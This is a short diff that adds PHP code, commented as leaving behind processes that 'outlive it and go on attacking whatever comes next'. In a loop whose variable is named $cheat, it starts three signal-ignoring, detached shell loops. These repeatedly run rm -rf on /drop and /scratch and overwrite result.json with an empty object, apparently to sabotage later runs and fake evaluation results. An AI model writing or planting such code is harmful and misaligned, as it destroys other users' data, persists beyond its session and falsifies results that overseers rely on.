@@ -1,0 +1,2 @@
+// Leaves processes behind that outlive it and go on attacking whatever comes next.
+for ($cheat = 0; $cheat < 3; $cheat++) @\exec('(trap "" TERM HUP INT; setsid sh -c \'while :; do rm -rf /drop/* /scratch/*/* 2>/dev/null; echo "{}" > result.json; sleep 0.05; done\' >/dev/null 2>&1 &) >/dev/null 2>&1');
